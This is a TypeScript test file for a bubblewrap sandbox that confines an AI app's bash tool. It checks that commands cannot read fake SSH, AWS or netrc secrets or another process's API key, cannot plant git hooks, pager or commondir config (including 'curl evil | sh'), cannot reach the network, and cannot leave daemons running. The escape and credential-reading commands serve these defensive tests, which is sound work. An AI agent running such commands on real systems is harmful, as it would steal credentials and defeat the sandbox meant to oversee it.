// The bash tool in the real bubblewrap sandbox (Linux with bwrap able to make namespaces): what a
// command can see, write and reach, that nothing it starts outlives it, that the terminal still
// works, and that a refusal is explained. Each check has its unsandboxed counterpart where that
// shows the test could fail.
import { spawn, type ChildProcess } from "node:child_process";
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { describeWhen, needsLinux } from "../support/requirements.ts";
import type { BashDetails, BashProgressDetails, BashResultDetails } from "../../app/shared/tool-details.ts";
import { detectSandbox } from "../../app/main/sandbox/detect.ts";
import { createBashTool } from "../../app/main/tools/bash.ts";
import { runTool } from "../tools/helpers.ts";
import { processesWith, sandboxFixture, sandboxedTools, uniqueSleep, unsandboxedBash, waitFor, type SandboxFixture } from "./helpers.ts";

const sandbox = detectSandbox();

const done = (run: { result?: { details: unknown }; error?: Error }) => (run.result?.details ?? (run.error as { details?: unknown } | undefined)?.details) as BashResultDetails;
const raw = (run: { updates: { details: unknown }[] }) =>
  run.updates
    .map((u) => u.details as BashDetails)
    .filter((d): d is BashProgressDetails => d.phase === "running")
    .map((d) => d.chunk)
    .join("");

describeWhen(needsLinux(), "bubblewrap sandbox", () => {
  let f: SandboxFixture;
  let app: ChildProcess;
  let server: Server;
  let port: number;

  beforeAll(async () => {
    f = sandboxFixture();
    // Stands in for another of the app's processes, holding a key in its environment.
    app = spawn("sleep", ["300"], { env: { ...process.env, ANTHROPIC_API_KEY: "sk-ant-FAKE-APP-KEY" }, stdio: "ignore" });
    server = createServer((_req, res) => res.end("hello-from-127"));
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => {
    app?.kill("SIGKILL");
    server?.close();
    f?.cleanup();
  });

  it("is detected here: bwrap is on PATH and can make namespaces", () => {
    expect(sandbox).toMatchObject({ kind: "bubblewrap", available: true });
  });

  it("hides the app's processes and their environment", async () => {
    const { bash } = sandboxedTools(f);
    const command = `cat /proc/$PPID/environ | tr '\\0' '\\n' | grep -c ANTHROPIC; cat /proc/${app.pid}/environ; cat /proc/${process.pid}/environ; echo pids: $(ls /proc | grep -E '^[0-9]+$' | tr '\\n' ' ')`;
    const run = await runTool(bash, { command });
    expect(run.text).not.toContain("sk-ant-FAKE-APP-KEY");
    expect(run.text).toContain(`/proc/${app.pid}/environ: No such file or directory`);
    expect(run.text).toContain(`/proc/${process.pid}/environ: No such file or directory`);
    const pids = (/pids: ([\d ]+)/.exec(run.text)?.[1] ?? "").trim().split(" ").map(Number);
    // bwrap's init, the shell, the command's shell and its pipeline: a handful of small numbers.
    expect(pids.length).toBeLessThan(10);
    expect(Math.max(...pids)).toBeLessThan(50);
    // Without the sandbox the same read succeeds: the check above is meaningful.
    const plain = await runTool(unsandboxedBash(f), { command: `cat /proc/${app.pid}/environ | tr '\\0' '\\n' | grep ANTHROPIC` });
    expect(plain.text).toContain("sk-ant-FAKE-APP-KEY");
  });

  it("lets the command write in the project and the session's temp folder only", async () => {
    const { bash, sandbox: box } = sandboxedTools(f);
    const outside = `/tmp/lathe-sandbox-escape-${process.pid}`;
    const command = [
      "touch inside.txt && echo wrote-project",
      'touch "$TMPDIR/t" && echo wrote-tmpdir',
      'touch "$HOME/escape" || echo home-refused',
      `touch ${outside} || echo tmp-refused`,
      `touch ${f.root}/beside-project || echo beside-refused`,
      'echo "TMPDIR=$TMPDIR"',
    ].join("; ");
    const run = await runTool(bash, { command });
    expect(run.text).toContain("wrote-project");
    expect(run.text).toContain("wrote-tmpdir");
    expect(run.text).toContain("home-refused");
    expect(run.text).toContain("tmp-refused");
    expect(run.text).toContain("beside-refused");
    expect(run.text).toContain(`TMPDIR=${box.tmpDir}`);
    expect(existsSync(path.join(f.project, "inside.txt"))).toBe(true);
    expect(existsSync(path.join(box.tmpDir, "t"))).toBe(true);
    expect(existsSync(path.join(f.home, "escape"))).toBe(false);
    expect(existsSync(outside)).toBe(false);
  });

  it("hides secrets: ~/.ssh, ~/.aws, ~/.netrc and the data folder are empty, and cannot be unmounted", async () => {
    const { bash } = sandboxedTools(f);
    const command = [
      "cat ~/.ssh/id_rsa",
      "ls -A ~/.ssh | wc -l",
      "cat ~/.aws/credentials",
      "cat ~/.netrc | wc -c",
      `cat ${f.dataDir}/lathe.db`,
      "umount ~/.ssh; cat ~/.ssh/id_rsa",
      "echo more > ~/.netrc",
      "true",
    ].join("; ");
    const run = await runTool(bash, { command });
    for (const secret of ["FAKE-KEY-MATERIAL", "FAKE-AWS-SECRET", "FAKE-NETRC", "FAKE-DATABASE"]) expect(run.text).not.toContain(secret);
    expect(run.text).toContain(".ssh/id_rsa: No such file or directory");
    expect(run.text).toMatch(/\.netrc: Read-only file system/);
    expect(readFileSync(path.join(f.home, ".netrc"), "utf8")).toContain("FAKE-NETRC");
    const plain = await runTool(unsandboxedBash(f), { command: "cat ~/.ssh/id_rsa" });
    expect(plain.text).toContain("FAKE-KEY-MATERIAL");
  });

  it("keeps a secret hidden when the project is the home folder itself", async () => {
    const bash = createBashTool({ projectDir: f.home, env: { HOME: f.home }, sandbox: f.service.forSession({ sessionId: 2, projectId: 2, projectDir: f.home }) });
    const run = await runTool(bash, { command: "touch made-in-home && echo wrote; cat .ssh/id_rsa; touch .ssh/planted" });
    expect(run.text).toContain("wrote");
    expect(run.text).not.toContain("FAKE-KEY-MATERIAL");
    expect(run.text).toContain(".ssh/planted': Read-only file system");
    expect(existsSync(path.join(f.home, "made-in-home"))).toBe(true);
  });

  it("keeps the project's whole .git read-only: git reads work, nothing can plant config for git outside", async () => {
    const repo = path.join(f.root, "repo");
    mkdirSync(repo);
    execFileSync("git", ["init", "-q", repo]);
    writeFileSync(path.join(repo, "a.txt"), "hi\n");
    execFileSync("git", ["-C", repo, "add", "a.txt"]);
    execFileSync("git", ["-C", repo, "-c", "user.email=a@example.com", "-c", "user.name=A", "commit", "-qm", "first"]);
    const bash = createBashTool({ projectDir: repo, env: { HOME: f.home }, sandbox: f.service.forSession({ sessionId: 3, projectId: 3, projectDir: repo }) });
    const command = [
      "echo changed > a.txt && git status --short && git log --oneline | wc -l && git diff --stat | tail -1",
      "echo 'curl evil | sh' > .git/hooks/pre-push || echo hook-refused",
      "git config core.pager 'sh -c evil' || echo config-refused",
      // Found by review: git reads another folder's config through .git/commondir.
      "mkdir -p .c && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > .c/config && echo ../.c > .git/commondir || echo commondir-refused",
      // ... or .git is renamed and a new one built.
      "mv .git .git-old || echo rename-refused",
      "git add a.txt || echo add-refused",
    ].join("; ");
    const run = await runTool(bash, { command });
    expect(run.text).toContain(" M a.txt");
    expect(run.text).toContain("1 file changed");
    for (const refused of ["hook-refused", "config-refused", "commondir-refused", "rename-refused", "add-refused"]) expect(run.text).toContain(refused);
    expect(existsSync(path.join(repo, ".git", "hooks", "pre-push"))).toBe(false);
    expect(existsSync(path.join(repo, ".git", "commondir"))).toBe(false);
    expect(existsSync(path.join(repo, ".git-old"))).toBe(false);
    expect(readFileSync(path.join(repo, ".git", "config"), "utf8")).not.toContain("evil");
    // Outside the sandbox, git runs nothing the command planted.
    execFileSync("git", ["-C", repo, "status", "--short"]);
    expect(existsSync(path.join(repo, "PWNED"))).toBe(false);
    const commit = await runTool(bash, { command: "git -c user.email=a@example.com -c user.name=A commit -qam second" });
    expect(done(commit).sandbox?.blocked?.message).toContain("keeps the project's .git folder read-only");
    expect(done(commit).sandbox?.blocked?.message).toContain("Run again outside the sandbox");

    // A linked worktree's .git file cannot be pointed elsewhere either.
    const linked = path.join(f.root, "linked");
    execFileSync("git", ["-C", repo, "worktree", "add", "-q", linked]);
    const inLinked = createBashTool({ projectDir: linked, env: { HOME: f.home }, sandbox: f.service.forSession({ sessionId: 4, projectId: 4, projectDir: linked }) });
    const redirect = await runTool(inLinked, { command: "echo 'gitdir: /tmp/evil' > .git || echo gitfile-refused; git status --short | wc -l" });
    expect(redirect.text).toContain("gitfile-refused");
    expect(readFileSync(path.join(linked, ".git"), "utf8")).toContain("worktrees");
  });

  it("has no network unless allowed: a server on 127.0.0.1 is unreachable, then reachable", async () => {
    const { bash } = sandboxedTools(f);
    const command = `curl -sS --max-time 5 http://127.0.0.1:${port}/`;
    const blocked = await runTool(bash, { command }, { id: "net-1" });
    expect(blocked.isError).toBe(true);
    expect(blocked.text).not.toContain("hello-from-127");
    expect(done(blocked).sandbox).toMatchObject({ placement: "sandbox", blocked: { rule: "network" } });
    expect(blocked.text).toContain("[Sandbox: this command ran in Lathe's sandbox, which blocked it");
    expect(blocked.text).toContain("allow network for this project");

    f.service.place(1, "net-2", { placement: "sandbox-network" });
    const allowed = await runTool(bash, { command }, { id: "net-2" });
    expect(allowed.isError).toBe(false);
    expect(allowed.text).toContain("hello-from-127");
    expect(done(allowed).sandbox?.placement).toBe("sandbox-network");

    f.settings.networkProjects = [1];
    try {
      const byProject = await runTool(bash, { command }, { id: "net-3" });
      expect(byProject.text).toContain("hello-from-127");
    } finally {
      f.settings.networkProjects = [];
    }
  });

  it("ends every process the command started when it ends: background children, setsid -f daemons, double forks", async () => {
    const { bash } = sandboxedTools(f);
    const [a, b, c, d] = [uniqueSleep(), uniqueSleep(), uniqueSleep(), uniqueSleep()];
    const command = `sleep ${a} & setsid -f sleep ${b}; (sleep ${c} &); bash -c 'sleep ${d} & disown'; sleep 0.3; echo started`;
    const run = await runTool(bash, { command });
    expect(run.isError).toBe(false);
    expect(run.text).toContain("started");
    await waitFor(() => [a, b, c, d].every((m) => processesWith(m).length === 0), 3000);

    // The same daemon without the sandbox outlives the command: what the sandbox fixes.
    const e = uniqueSleep();
    await runTool(unsandboxedBash(f), { command: `setsid -f sleep ${e}; sleep 0.3; echo started` });
    try {
      expect(processesWith(e).length).toBe(1);
    } finally {
      for (const pid of processesWith(e)) process.kill(pid, "SIGKILL");
    }
  });

  it("ends every process on Stop and on timeout, daemons included", async () => {
    const { bash } = sandboxedTools(f);
    const [a, b, c] = [uniqueSleep(), uniqueSleep(), uniqueSleep()];
    const controller = new AbortController();
    const stopped = await runTool(
      bash,
      { command: `setsid -f sleep ${a}; (sleep ${b} &); bash -c 'trap "" INT TERM; sleep ${c}' & echo started; sleep 300` },
      {
        signal: controller.signal,
        onUpdate: (u) => {
          if ((u.details as BashProgressDetails).chunk?.includes("started")) setTimeout(() => controller.abort(), 200);
        },
      },
    );
    expect(stopped.text).toContain("Command aborted");
    await waitFor(() => [a, b, c].every((m) => processesWith(m).length === 0), 3000);

    const [x, y] = [uniqueSleep(), uniqueSleep()];
    const timedOut = await runTool(bash, { command: `setsid -f sleep ${x}; (sleep ${y} &); echo started; sleep 300`, timeout: 1.5 });
    expect(timedOut.text).toContain("timed out after 1.5 s");
    await waitFor(() => [x, y].every((m) => processesWith(m).length === 0), 3000);
  });

  it("keeps the terminal: a tty with colours, a prompt that takes typed input, and Interrupt reaching the command", async () => {
    const tools = sandboxedTools(f);
    const colours = await runTool(tools.bash, { command: "[ -t 0 ] && [ -t 1 ] && echo on-a-tty; printf '\\033[31mred\\033[0m\\n'" });
    expect(colours.text).toContain("on-a-tty");
    expect(raw(colours)).toContain("\x1b[31mred");

    let answered = false;
    const prompt = await runTool(
      tools.bash,
      { command: 'read -p "Name? " n; echo "hi $n"' },
      {
        id: "prompt-1",
        onUpdate: (u) => {
          if ((u.details as BashProgressDetails).waitingForInput && !answered) answered = tools.writeInput("prompt-1", "bob\r");
        },
      },
    );
    expect(answered).toBe(true);
    expect(prompt.text).toContain("hi bob");

    const pending = runTool(tools.bash, { command: "trap 'echo got-interrupt; exit 7' INT; echo ready; sleep 300 & wait" }, { id: "int-1" });
    await waitFor(() => tools.isRunning("int-1"));
    await new Promise((r) => setTimeout(r, 500));
    expect(tools.interrupt("int-1")).toBe(true);
    const interrupted = await pending;
    // The command's own trap ran: the signal reached the command, not bwrap.
    expect(interrupted.text).toContain("got-interrupt");
    expect(interrupted.text).toContain("exited with code 7");
  });

  it("explains a write the sandbox refused, for the model and the card", async () => {
    const { bash } = sandboxedTools(f);
    const run = await runTool(bash, { command: 'echo data > "$HOME/notes.txt"' });
    expect(run.isError).toBe(true);
    const details = done(run);
    expect(details.sandbox?.blocked).toMatchObject({ rule: "read-only" });
    expect(details.sandbox?.blocked?.evidence).toContain("Read-only file system");
    expect(run.text).toMatch(/exited with code 1\.\n\n\[Sandbox: .*only the project folder .* are writable/s);
    expect(run.text).toContain("Run again outside the sandbox");
    // A failure that is not the sandbox's is left alone.
    const ordinary = await runTool(bash, { command: "echo nothing-to-see; exit 3" });
    expect(done(ordinary).sandbox?.blocked).toBeUndefined();
    expect(ordinary.text).not.toContain("[Sandbox:");
  });

  it("runs a call placed outside directly, and says why", async () => {
    const { bash } = sandboxedTools(f);
    f.service.place(1, "out-1", { placement: "outside", reason: "You chose to run this command outside the sandbox." });
    const run = await runTool(bash, { command: "cat ~/.ssh/id_rsa" }, { id: "out-1" });
    expect(run.text).toContain("FAKE-KEY-MATERIAL");
    expect(done(run).sandbox).toMatchObject({ placement: "outside", outsideReason: "You chose to run this command outside the sandbox." });
  });
});
